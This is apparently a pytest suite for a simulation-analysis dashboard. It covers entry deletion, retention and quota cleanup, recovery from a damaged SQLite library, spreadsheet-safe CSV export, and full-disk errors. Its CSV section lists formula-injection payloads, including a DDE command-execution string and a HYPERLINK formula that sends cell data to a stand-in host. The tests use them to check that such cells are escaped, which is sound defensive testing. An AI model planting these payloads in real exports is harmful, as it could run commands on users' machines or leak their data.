"""Stored state: deleting an entry deletes its files, retention and the quota, a damaged
library moved aside with a message, spreadsheet-safe CSV, and a full disk."""

import csv
import errno
import io
import logging
import os
import shutil
import sqlite3
import time
from dataclasses import replace
from pathlib import Path

import pytest

from dashboard import analysis, csv_safe, storage
from dashboard.config import Config
from dashboard.storage import DiskFullError, Library, cleanup, maybe_cleanup, write_atomic
from iondiff_core.errors import InputError
from iondiff_core.io import write_xdatcar
from iondiff_core.parameters import Parameters
from iondiff_core.synthetic import make_synthetic

DAY = 86400.0


@pytest.fixture
def cfg(tmp_path, monkeypatch):
    monkeypatch.delenv("IONDIFF_RETENTION_DAYS", raising=False)
    monkeypatch.delenv("IONDIFF_MAX_DATA_GB", raising=False)
    return Config.from_env(tmp_path / "data", roots=[tmp_path / "root"])


@pytest.fixture(scope="module")
def xdatcar(tmp_path_factory):
    p = tmp_path_factory.mktemp("x") / "XDATCAR_LiX.gz"
    write_xdatcar(make_synthetic(n_frames=600, n_mobile=6, chain_sizes=(1, 2), seed=3).trajectory, p)
    return p


def _upload(cfg, xdatcar, upload_id="a" * 32) -> Path:
    folder = cfg.uploads / upload_id
    folder.mkdir(parents=True)
    return Path(shutil.copy(xdatcar, folder / xdatcar.name))


def _fake_entry(cfg, lib, name, size=1000, upload=None, stage_files=(), trajectory=None) -> storage.Entry:
    """An entry with a result of ``size`` bytes (and optionally an upload folder and stage files)."""
    result = cfg.results / f"{name}.json"
    result.write_bytes(b"x" * size)
    if upload is not None:
        (cfg.uploads / upload).mkdir(parents=True, exist_ok=True)
        trajectory = cfg.uploads / upload / "XDATCAR"
        trajectory.write_text("t")
    if trajectory is None:  # a run picked on the server
        trajectory = cfg.data_dir.parent / "sims" / name / "XDATCAR"
        trajectory.parent.mkdir(parents=True, exist_ok=True)
        trajectory.write_text("t")
    for f in stage_files:
        (cfg.stages / f).write_bytes(b"s" * 10)
    return lib.add(name=name, material="LiX", family="Li-based", species="Li", temperature_K=600.0, sha256=name,
                   params_key="k", params={}, trajectory=str(trajectory), result=str(result), descriptors={},
                   stage_files=list(stage_files))


def _age(path: Path, seconds: float, now: float) -> None:
    for p in [path, *path.rglob("*")] if path.is_dir() else [path]:
        os.utime(p, (now - seconds, now - seconds))


# ---------------------------------------------------------------------- 1. delete
def test_deleting_entries_deletes_their_result_upload_and_unshared_stage_files(cfg, xdatcar, tmp_path):
    traj = _upload(cfg, xdatcar)
    a = analysis.run_analysis(cfg, traj, Parameters(), timestep_fs=10, temperature_K=600)
    b = analysis.run_analysis(cfg, traj, Parameters(r_vib_A=0.6), timestep_fs=10, temperature_K=600)
    lib = Library(cfg.library_db)
    ea, eb = lib.get(a), lib.get(b)
    stage = sorted(p.name for p in cfg.stages.iterdir())
    # The entries record the stage files their analysis used: the unwrapped positions and the clustering.
    assert ea.stage_files == stage == eb.stage_files and any(s.startswith("clustering-") for s in stage)
    assert any(s.startswith("unwrapped-") for s in stage)

    lib.delete(a)  # b still uses the upload and the stage files
    assert not Path(ea.result).exists() and Path(eb.result).exists()
    assert traj.exists() and sorted(p.name for p in cfg.stages.iterdir()) == stage

    lib.delete(b)  # the last user: everything goes
    assert not Path(eb.result).exists() and not (cfg.uploads / ("a" * 32)).exists()
    assert list(cfg.stages.iterdir()) == [] and list(cfg.results.iterdir()) == []
    assert lib.list() == []


def test_deleting_an_entry_never_deletes_a_server_picked_source(cfg, xdatcar, tmp_path):
    root = tmp_path / "root" / "LiX_600K"
    root.mkdir(parents=True)
    src = Path(shutil.copy(xdatcar, root / "XDATCAR.gz"))
    (root / "INCAR").write_text("POTIM = 2\nNBLOCK = 5\nTEBEG = 600\n")
    before = {p.name: p.read_bytes() for p in root.iterdir()}
    eid = analysis.run_analysis(cfg, root, Parameters())
    lib = Library(cfg.library_db)
    assert lib.upload_of(lib.get(eid).trajectory) is None
    lib.delete(eid)
    assert {p.name: p.read_bytes() for p in root.iterdir()} == before and src.exists()
    assert list(cfg.stages.iterdir()) == [] and lib.list() == []


def test_a_rebuilt_session_records_its_stage_files(cfg, xdatcar):
    eid = analysis.run_analysis(cfg, _upload(cfg, xdatcar), Parameters(), timestep_fs=10, temperature_K=600)
    lib = Library(cfg.library_db)
    lib.set_stage_files(eid, [])  # as if recorded before the files were rebuilt elsewhere
    analysis._SESSIONS._d.clear()
    analysis.session_for(cfg, lib.get(eid))
    assert lib.get(eid).stage_files == sorted(p.name for p in cfg.stages.iterdir())


# ---------------------------------------------------------------------- 2. retention and quota
def test_retention_removes_entries_not_opened_and_old_orphans(cfg, caplog):
    now = time.time()
    lib = Library(cfg.library_db)
    old = _fake_entry(cfg, lib, "old", upload="b" * 32, stage_files=["clustering-old.npz"])
    recent = _fake_entry(cfg, lib, "recent", upload="c" * 32, stage_files=["clustering-recent.npz"])
    lib.opened(old.id, now - 20 * DAY)
    lib.opened(recent.id, now - 2 * DAY)
    orphan_old, orphan_young = cfg.uploads / ("d" * 32), cfg.uploads / ("e" * 32)
    for p in (orphan_old, orphan_young):
        p.mkdir()
        (p / "XDATCAR.part").write_bytes(b"half")
    _age(orphan_old, 2 * DAY, now)
    stray_stage, stray_result = cfg.stages / "block-stray.npz", cfg.results / "stray.json"
    for p in (stray_stage, stray_result, cfg.stages / "x.tmp"):
        p.write_text("x")
        _age(p, 2 * DAY, now)

    with caplog.at_level(logging.INFO, logger="iondiff.storage"):
        removed = cleanup(replace(cfg, retention_days=10), now=now)
    assert [e.id for e in lib.list()] == [recent.id]
    assert not (cfg.uploads / ("b" * 32)).exists() and not (cfg.stages / "clustering-old.npz").exists()
    assert (cfg.uploads / ("c" * 32)).exists() and (cfg.stages / "clustering-recent.npz").exists()
    assert not orphan_old.exists() and orphan_young.exists()  # a day's grace: it may be analysed right now
    assert not stray_stage.exists() and not stray_result.exists() and not (cfg.stages / "x.tmp").exists()
    assert any("not opened for 20.0 days" in r for r in removed) and len(removed) == 5
    assert sum("cleanup removed" in r.getMessage() for r in caplog.records) == 5

    # Retention off (the default): entries stay however old; only the young orphan, aged now, goes.
    later = cleanup(cfg, now=now + 1000 * DAY)
    assert [e.id for e in lib.list()] == [recent.id] and len(later) == 1 and "orphan upload eeee" in later[0]


def test_quota_removes_least_recently_opened_entries_until_under_it(cfg):
    now = time.time()
    lib = Library(cfg.library_db)
    entries = [_fake_entry(cfg, lib, f"run{i}", size=1_000_000) for i in range(4)]
    for i, when in enumerate((5, 1, 3, 2)):  # run1 opened last, run0 first
        lib.opened(entries[i].id, now - when * DAY)
    limit = storage._size(cfg.data_dir) - 1_500_000  # two results must go
    removed = cleanup(replace(cfg, max_data_bytes=limit), now=now)
    assert sorted(e.name for e in lib.list()) == ["run1", "run3"]  # run0 and run2 were the least recently opened
    assert storage._size(cfg.data_dir) <= limit and len(removed) == 2 and "IONDIFF_MAX_DATA_GB" in removed[0]
    # The entry just analysed is never removed, even when it alone is over the quota.
    cleanup(replace(cfg, max_data_bytes=1), now=now, keep=(entries[1].id,))
    assert [e.name for e in lib.list()] == ["run1"]


def test_cleanup_is_throttled_over_processes_and_runs_after_an_analysis(cfg, xdatcar):
    now = time.time()
    lib = Library(cfg.library_db)
    e = _fake_entry(cfg, lib, "stale")
    lib.opened(e.id, now - 30 * DAY)
    short = replace(cfg, retention_days=10)
    assert maybe_cleanup(short, now=now) == [f"entry {e.id} (stale): not opened for 30.0 days (IONDIFF_RETENTION_DAYS=10)"]
    e2 = _fake_entry(cfg, lib, "stale2")
    lib.opened(e2.id, now - 30 * DAY)
    assert maybe_cleanup(short, now=now + 60) is None and lib.get(e2.id) is not None  # ran a minute ago
    # A finished analysis runs it (once the interval has passed).
    (cfg.data_dir / "cleanup.stamp").write_text(repr(now - 2 * storage.CLEANUP_INTERVAL_S))
    analysis.run_analysis(short, _upload(short, xdatcar), Parameters(), timestep_fs=10, temperature_K=600)
    assert lib.get(e2.id) is None and len(lib.list()) == 1


def test_the_web_server_cleans_up_when_it_starts(tmp_path, monkeypatch):
    from dashboard.app_factory import create_app

    monkeypatch.setenv("IONDIFF_RETENTION_DAYS", "7")
    app = create_app(tmp_path / "data", roots=[])
    cfg = app.config_object
    lib = Library(cfg.library_db)
    e = _fake_entry(cfg, lib, "stale")
    lib.opened(e.id, time.time() - 8 * DAY)
    assert app.server.test_client().get("/health").status_code == 200
    deadline = time.monotonic() + 20
    while lib.get(e.id) is not None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert lib.get(e.id) is None and not Path(e.result).exists()


def test_storage_limits_from_the_environment(tmp_path, monkeypatch):
    monkeypatch.delenv("IONDIFF_RETENTION_DAYS", raising=False)
    monkeypatch.delenv("IONDIFF_MAX_DATA_GB", raising=False)
    c = Config.from_env(tmp_path / "d", roots=[])
    assert c.retention_days == 0 and c.max_data_bytes == 0
    monkeypatch.setenv("IONDIFF_RETENTION_DAYS", "30")
    monkeypatch.setenv("IONDIFF_MAX_DATA_GB", "0.5")
    c = Config.from_env(tmp_path / "d", roots=[])
    assert c.retention_days == 30 and c.max_data_bytes == 512 * 1024**2
    for bad in ("abc", "-1", "nan", "inf"):
        monkeypatch.setenv("IONDIFF_MAX_DATA_GB", bad)
        with pytest.raises(ValueError, match="IONDIFF_MAX_DATA_GB"):
            Config.from_env(tmp_path / "d", roots=[])


# ---------------------------------------------------------------------- 3. damaged library
def _forget_checks():
    storage._CHECKED.clear()  # as in a freshly started process


def test_junk_library_is_moved_aside_and_a_new_one_started(cfg):
    cfg.library_db.write_bytes(os.urandom(8192))
    Path(f"{cfg.library_db}-wal").write_bytes(b"w" * 100)
    _forget_checks()
    lib = Library(cfg.library_db)
    assert lib.recovered and lib.recovered.startswith("library.sqlite.corrupt-")
    assert storage.corrupt_copies(cfg.library_db) == [lib.recovered]
    wal = Path(f"{cfg.library_db}-wal")  # the old WAL must not be replayed into the new library
    assert not wal.exists() or wal.read_bytes() != b"w" * 100
    assert lib.list() == [] and _fake_entry(cfg, lib, "after").id == lib.list()[0].id
    assert Library(cfg.library_db).recovered is None  # once only


def _filled_library(cfg, n=300) -> Library:
    lib = Library(cfg.library_db)
    for i in range(n):
        _fake_entry(cfg, lib, f"run{i:03d}", size=10)
    with sqlite3.connect(cfg.library_db) as c:
        c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return lib


def test_truncated_library_is_detected_at_open(cfg):
    _filled_library(cfg)
    size = cfg.library_db.stat().st_size
    with open(cfg.library_db, "r+b") as f:
        f.truncate(size // 2)
    _forget_checks()
    lib = Library(cfg.library_db)
    assert lib.recovered and lib.list() == []
    # Orphan files are kept while the damaged copy is there: they may be its entries'.
    assert cleanup(cfg, now=time.time() + 10 * DAY) == [] and len(list(cfg.results.iterdir())) == 300


def test_library_page_says_the_library_was_damaged_instead_of_a_blank_page(tmp_path, monkeypatch):
    from dashboard.app_factory import create_app
    from pages import library as library_page

    app = create_app(tmp_path / "data", roots=[])
    cfg = app.config_object
    _filled_library(cfg, n=200)  # checked by this process already: the damage comes later
    with open(cfg.library_db, "r+b") as f:
        f.truncate(cfg.library_db.stat().st_size // 3)
    with app.server.test_request_context("/library"):
        page = library_page.layout()
    text = _texts(page)
    assert "The library database was damaged" in text and "library.sqlite.corrupt-" in text
    assert str(cfg.data_dir) not in text  # the name the administrator knows, not a server path
    assert "Analysed simulations (0)" in text
    with app.server.test_request_context("/library"):  # the message stays while the damaged copy is there
        assert "was damaged" in _texts(library_page.layout())
    for p in cfg.data_dir.glob("library.sqlite.corrupt-*"):
        p.unlink()
    with app.server.test_request_context("/library"):
        assert "was damaged" not in _texts(library_page.layout())


def test_library_page_says_when_the_library_cannot_be_read(tmp_path, monkeypatch):
    from dashboard.app_factory import create_app
    from pages import library as library_page

    app = create_app(tmp_path / "data", roots=[])

    def locked(self):
        raise sqlite3.OperationalError("database is locked")

    monkeypatch.setattr(Library, "list", locked)
    with app.server.test_request_context("/library"):
        text = _texts(library_page.layout())
    assert "The library cannot be read right now (database is locked)" in text and "Analysed simulations (0)" in text


def _texts(component) -> str:
    """Every string in a Dash component tree."""
    if isinstance(component, str):
        return component
    if isinstance(component, (list, tuple)):
        return " ".join(_texts(c) for c in component)
    children = getattr(component, "children", None)
    return "" if children is None else _texts(children)


# ---------------------------------------------------------------------- 4. CSV
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1, "click")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_quotes_formulas(text):
    assert csv_safe.cell(text) == "'" + text


def test_csv_cell_keeps_numbers_and_plain_text():
    for v in (-1.5e-05, -3, 0, 2.5, None, True):
        assert csv_safe.cell(v) == v
    for text in ("-1.5e-05", "+3", "-inf", "nan", "LGPS 600 K", "a=b", ""):
        assert csv_safe.cell(text) == text


def test_library_csv_escapes_what_users_typed_and_keeps_numbers(cfg):
    from pages.library import library_csv

    lib = Library(cfg.library_db)
    e = _fake_entry(cfg, lib, "r1")
    lib.update(e.id, name=FORMULAS[0], material=FORMULAS[1], tags="=1+1,@x")
    with sqlite3.connect(cfg.library_db) as c:  # a descriptor that is negative, and a run name from an upload
        c.execute("UPDATE entries SET descriptors = ?, family = ? WHERE id = ?", ('{"x_eV": -0.25}', "-Li", e.id))
    rows = list(csv.reader(io.StringIO(library_csv(lib.list()))))
    row = dict(zip(rows[0], rows[1]))
    assert row["name"] == "'" + FORMULAS[0] and row["material"] == "'" + FORMULAS[1]
    assert row["tags"] == "'=1+1,@x" and row["family"] == "'-Li" and row["x_eV"] == "-0.25"
    assert not any(v.startswith(csv_safe.FORMULA_START) and v != "-0.25" for v in rows[1])


def test_cross_run_and_descriptor_csvs_escape_names():
    from dashboard.figures import descriptor_table, library_stats

    d = {"nu": {"labels": ["=HYPERLINK(1)"], "nu": [1.0], "nu0": [-2.0]}}
    rows = list(csv.reader(io.StringIO(library_stats.data_csv(d, "nu"))))
    assert rows[1] == ["'=HYPERLINK(1)", "1.0", "-2.0"]
    table = descriptor_table.data_table([{"key": "k", "descriptor": "@x", "value": "-1.5e-05", "interval": "", "unit": "",
                                          "help": "=bad"}])
    assert table["descriptor"] == ["'@x"] and table["value"] == ["-1.5e-05"] and table["help"] == ["'=bad"]


# ---------------------------------------------------------------------- 5. full disk
class _FullFile(io.StringIO):
    def write(self, _):
        raise OSError(errno.ENOSPC, "No space left on device")


def _full_disk(monkeypatch):
    real = os.fdopen
    monkeypatch.setattr(os, "fdopen", lambda fd, mode="r", *a, **k: (os.close(fd), _FullFile())[1] if "w" in mode
                        else real(fd, mode, *a, **k))


def test_write_atomic_on_a_full_disk_says_so_and_leaves_nothing(tmp_path, monkeypatch):
    target = tmp_path / "r.json"
    write_atomic(target, "old")
    _full_disk(monkeypatch)
    with pytest.raises(DiskFullError, match="the server's data disk is full") as err:
        write_atomic(target, "new")
    assert isinstance(err.value, InputError) and str(tmp_path) not in str(err.value)
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["r.json"]


def test_library_entry_on_a_full_disk_says_so_and_removes_its_result(cfg, monkeypatch):
    lib = Library(cfg.library_db)
    real = sqlite3.connect

    class Full:
        def __init__(self, conn):
            object.__setattr__(self, "_c", conn)

        def __getattr__(self, name):
            return getattr(self._c, name)

        def __setattr__(self, name, value):
            setattr(self._c, name, value)

        def execute(self, sql, *args):
            if sql.startswith("INSERT"):
                raise sqlite3.OperationalError("database or disk is full")
            return self._c.execute(sql, *args)

    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: Full(real(*a, **k)))
    with pytest.raises(DiskFullError, match="data disk is full: the library entry could not be saved"):
        _fake_entry(cfg, lib, "r")
    monkeypatch.setattr(sqlite3, "connect", real)
    assert lib.list() == [] and list(cfg.results.iterdir()) == []


def test_analysis_on_a_full_disk_fails_with_a_message_and_no_half_written_file(cfg, xdatcar, monkeypatch):
    traj = _upload(cfg, xdatcar)
    _full_disk(monkeypatch)
    with pytest.raises(InputError, match="the server's data disk is full"):
        analysis.run_analysis(cfg, traj, Parameters(), timestep_fs=10, temperature_K=600)
    leftovers = [p.name for d in (cfg.results, cfg.stages) for p in d.iterdir() if p.suffix in (".tmp", ".json", ".npz")]
    assert leftovers == [] and Library(cfg.library_db).list() == []


def test_memory_mapped_stage_file_on_a_full_disk_is_an_error_not_a_crash(cfg, xdatcar, monkeypatch):
    """A memory map written on a full disk dies of SIGBUS: the space is checked first."""
    traj = _upload(cfg, xdatcar)
    monkeypatch.setattr(shutil, "disk_usage", lambda _: shutil._ntuple_diskusage(10**9, 10**9, 1000))
    with pytest.raises(DiskFullError, match="the analysis's cache files could not be saved"):
        analysis.run_analysis(cfg, traj, Parameters(), timestep_fs=10, temperature_K=600)
    assert list(cfg.stages.iterdir()) == [] and Library(cfg.library_db).list() == []
